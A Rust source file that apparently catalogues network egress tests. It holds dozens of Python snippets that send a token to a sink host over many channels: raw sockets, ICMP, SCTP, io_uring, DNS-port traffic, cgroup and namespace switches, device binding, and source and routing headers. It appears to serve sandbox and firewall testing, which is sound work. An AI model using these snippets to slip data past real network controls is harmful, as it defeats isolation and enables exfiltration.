//! Ways out by kinds of sockets, by their options, and by how they send.
use super::{Way, rare, root, way};

pub(super) const WAYS: &[Way] = &[
    way(0, "plain-tcp", "tcp((host, port))"),
    way(0, "plain-tcp6", "tcp((host6, port))"),
    way(
        0,
        "plain-udp",
        "socket.socket(type=socket.SOCK_DGRAM).sendto(token, (host, port))",
    ),
    way(
        0,
        "plain-udp6",
        "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(token, (host6, port))",
    ),
    root(
        1,
        "other-cgroup",
        r#"
with open(where["free_cgroup"] + "/cgroup.procs", "w") as procs:
    procs.write("0")
tcp((host, port))
"#,
    ),
    root(
        2,
        "child-cgroup",
        r#"
own = [line for line in open("/proc/self/cgroup") if line.startswith("0::")][0][4:].strip()
mount = [line.split()[1] for line in open("/proc/mounts") if line.split()[2] == "cgroup2"][0]
child = os.path.join(mount, own, "child")
os.makedirs(child, exist_ok=True)
with open(child + "/cgroup.procs", "w") as procs:
    procs.write("0")
tcp((host, port))
"#,
    ),
    root(
        3,
        "raw-ip",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(token, (host, 0))",
    ),
    root(
        4,
        "ping",
        r#"
there = laboratory()
with open("/proc/sys/net/ipv4/ping_group_range", "w") as groups:
    groups.write("0 2147483647")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
s.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + token, (there, 0))
"#,
    ),
    rare(
        9,
        "mptcp",
        r#"
with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
    s.connect((host, port))
    s.sendall(token)
    s.shutdown(socket.SHUT_WR)
    s.recv(1)
"#,
    ),
    rare(
        9,
        "sctp",
        r#"
with socket.socket(socket.AF_INET, socket.SOCK_SEQPACKET, 132) as s:
    s.sendto(token, (host, port))
"#,
    ),
    rare(
        9,
        "udplite",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(token, (host, port))",
    ),
    rare(
        9,
        "dccp",
        r#"
with socket.socket(socket.AF_INET, 6, 33) as s:
    s.connect((host, port))
    s.sendall(token)
"#,
    ),
    rare(
        10,
        "io-uring",
        r#"
submit, s = ring(), socket.socket()
s.setblocking(True)
print("connect", submit(16, s.fileno(), to((host, port)), 0, 16))
data = ctypes.create_string_buffer(token)
print("send", submit(26, s.fileno(), data, len(token)))
time.sleep(0.2)
"#,
    ),
    rare(
        10,
        "io-uring-socket",
        r#"
submit = ring()
s = submit(45, socket.AF_INET, 0, 0, socket.SOCK_STREAM)
print("socket", s)
print("connect", submit(16, s, to((host, port)), 0, 16))
data = ctypes.create_string_buffer(token)
print("send", submit(26, s, data, len(token)))
time.sleep(0.2)
"#,
    ),
    rare(
        10,
        "io-uring-sendmsg",
        r#"
submit, s = ring(), socket.socket(type=socket.SOCK_DGRAM)
name, data = to((host, port)), ctypes.create_string_buffer(token)
vector = (ctypes.c_uint64 * 2)(ctypes.addressof(data), len(token))
message = struct.pack("QI4xQQQQi4x", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0)
print("sendmsg", submit(9, s.fileno(), ctypes.create_string_buffer(message), 1))
"#,
    ),
    rare(
        11,
        "fast-open",
        r#"
s = socket.socket()
s.settimeout(None)
MSG_FASTOPEN = 0x20000000
s.sendto(token, MSG_FASTOPEN, (host, port))
s.shutdown(socket.SHUT_WR)
s.recv(1)
"#,
    ),
    way(
        12,
        "sendmmsg",
        r#"
s = socket.socket(type=socket.SOCK_DGRAM)
name = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8), 16)
data = ctypes.create_string_buffer(token)
vector = (ctypes.c_uint64 * 2)(ctypes.addressof(data), len(token))
one = struct.pack("QI4xQQQQi4xI4x", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0)
messages = ctypes.create_string_buffer(one * 2)
print("sent", libc.sendmmsg(s.fileno(), messages, 2, 0), ctypes.get_errno())
"#,
    ),
    way(
        13,
        "connected-udp",
        r#"
s = socket.socket(type=socket.SOCK_DGRAM)
s.connect((host, port))
s.send(token)
"#,
    ),
    way(
        14,
        "packet-info",
        r#"
s = socket.socket(type=socket.SOCK_DGRAM)
info = struct.pack("=I4s4s", socket.if_nametoindex(device), bytes(4), bytes(4))
s.sendmsg([token], [(socket.IPPROTO_IP, 8, info)], 0, (host, port))
"#,
    ),
    way(
        15,
        "connect-again",
        r#"
s = socket.create_connection(("127.0.0.1", database))
unspecified = struct.pack("=H14x", socket.AF_UNSPEC)
libc.connect(s.fileno(), unspecified, 16)
s.connect((host, port))
s.sendall(token)
s.shutdown(socket.SHUT_WR)
s.recv(1)
"#,
    ),
    way(17, "mapped-tcp", "tcp((\"::ffff:\" + host, port))"),
    way(
        17,
        "mapped-udp",
        "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(token, (\"::ffff:\" + host, port))",
    ),
    root(
        20,
        "sink-namespace",
        r#"
with open("/run/netns/" + where["namespace"]) as namespace:
    if libc.setns(namespace.fileno(), 0) != 0:
        raise OSError(ctypes.get_errno(), "setns")
tcp(("127.0.0.1", port))
"#,
    ),
    way(
        44,
        "dns-to-a-sink",
        "socket.socket(type=socket.SOCK_DGRAM).sendto(token, (host, 53))",
    ),
    way(
        44,
        "dns-question",
        r#"
word = token.rstrip(b".")
name = bytes([len(word) + 1]) + word + b"." + b"\4test\0"
s = socket.socket(type=socket.SOCK_DGRAM)
s.sendto(b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + name + b"\0\1\0\1", (host, 53))
"#,
    ),
    way(
        44,
        "dns-connected",
        r#"
s = socket.socket(type=socket.SOCK_DGRAM)
s.connect((host, 53))
s.send(token)
"#,
    ),
    way(
        44,
        "dns-mapped",
        "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(token, (\"::ffff:\" + host, 53))",
    ),
    way(
        44,
        "dns-over-tcp",
        r#"
with socket.socket() as s:
    s.settimeout(1)
    s.connect((host, 53))
    s.sendall(struct.pack("!H", len(token)) + token)
    s.recv(1)
"#,
    )
    .that_may_fail(),
    way(
        44,
        "dns-packet-info",
        r#"
s = socket.socket(type=socket.SOCK_DGRAM)
info = struct.pack("=I4s4s", socket.if_nametoindex(device), bytes(4), bytes(4))
s.sendmsg([token], [(socket.IPPROTO_IP, 8, info)], 0, (host, 53))
"#,
    ),
    way(
        64,
        "dns-then-device",
        r#"
s = socket.socket(type=socket.SOCK_DGRAM)
s.connect((host, 53))
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b"\0")
s.send(token)
"#,
    ),
    way(
        60,
        "device-then-dns",
        r#"
s = socket.socket(type=socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b"\0")
s.sendto(token, (host, 53))
"#,
    ),
    way(
        15,
        "dns-then-elsewhere",
        r#"
s = socket.socket(type=socket.SOCK_DGRAM)
s.connect((host, 53))
try:
    s.sendto(token, (host, port))
except OSError as error:
    print(error)
libc.connect(s.fileno(), struct.pack("=H14x", socket.AF_UNSPEC), 16)
s.sendto(token, (host, port))
"#,
    ),
    way(
        12,
        "dns-then-corked",
        r#"
MSG_MORE = 0x8000
s = socket.socket(type=socket.SOCK_DGRAM)
s.sendto(token, MSG_MORE, (host, 53))
s.sendto(token, (host, port))
"#,
    ),
    way(
        12,
        "sendmmsg-dns-first",
        r#"
s = socket.socket(type=socket.SOCK_DGRAM)
data = ctypes.create_string_buffer(token)
vector = (ctypes.c_uint64 * 2)(ctypes.addressof(data), len(token))
names = [ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", to) + socket.inet_aton(host) + bytes(8), 16) for to in (53, port)]
each = [struct.pack("QI4xQQQQi4xI4x", ctypes.addressof(name), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0) for name in names]
messages = ctypes.create_string_buffer(b"".join(each))
print("sent", libc.sendmmsg(s.fileno(), messages, 2, 0), ctypes.get_errno())
"#,
    ),
    way(
        65,
        "dns-routing-header",
        r#"
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
segments = socket.inet_pton(socket.AF_INET6, "::1") + socket.inet_pton(socket.AF_INET6, host6)
s.setsockopt(socket.IPPROTO_IPV6, 57, struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + segments)
s.sendto(token, (host6, 53))
"#,
    )
    .that_may_fail(),
    way(
        0,
        "quic",
        "socket.socket(type=socket.SOCK_DGRAM).sendto(token, (host, 443))",
    ),
    way(
        52,
        "daemonised",
        r#"
if os.fork():
    os.wait()
    time.sleep(0.5)
    sys.exit()
os.setsid()
if os.fork():
    os._exit(0)
tcp((host, port))
"#,
    ),
    root(
        56,
        "other-user",
        r#"
os.setgroups([])
os.setresgid(65534, 65534, 65534)
os.setresuid(65534, 65534, 65534)
os.execv("/usr/bin/python3", ["python3", "-c", f"import socket; s = socket.create_connection(({host!r}, {port}), 3); s.sendall({token!r}); s.shutdown(1); s.recv(1)"])
"#,
    ),
    way(
        58,
        "bind-and-wait",
        r#"
s = socket.create_server(("0.0.0.0", where["called_port"]))
connection, peer = s.accept()
connection.sendall(token)
time.sleep(0.3)
"#,
    ),
    way(
        60,
        "bound-device",
        r#"
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b"\0")
s.connect((host, port))
s.sendall(token)
s.shutdown(socket.SHUT_WR)
s.recv(1)
"#,
    ),
    root(
        60,
        "mark",
        r#"
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, 36, 0x1)
s.connect((host, port))
s.sendall(token)
s.shutdown(socket.SHUT_WR)
s.recv(1)
"#,
    ),
    way(
        64,
        "bound-device-after-connect",
        r#"
s = socket.socket()
s.bind((where["own_address"], 0))
s.connect(("127.0.0.1", database))
s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device.encode() + b"\0")
for attempt in range(5):
    s.send(token)
    time.sleep(0.05)
"#,
    ),
    root(
        65,
        "source-route",
        r#"
resolvers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver") and "." in line]
resolver = (resolvers + ["127.0.0.1"])[0]
loose = bytes([131, 7, 4]) + socket.inet_aton(host) + b"\0"
s = socket.socket(type=socket.SOCK_DGRAM)
s.bind((where["own_address"], 0))
s.setsockopt(socket.IPPROTO_IP, 4, loose)
s.sendto(token, (resolver, 53))
"#,
    ),
    way(
        65,
        "routing-header",
        r#"
s = socket.create_connection(("::1", database))
segments = socket.inet_pton(socket.AF_INET6, "::1") + socket.inet_pton(socket.AF_INET6, host6)
header = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + segments
s.setsockopt(socket.IPPROTO_IPV6, 57, header)
s.send(token)
time.sleep(0.2)
"#,
    )
    .that_may_fail(),
];
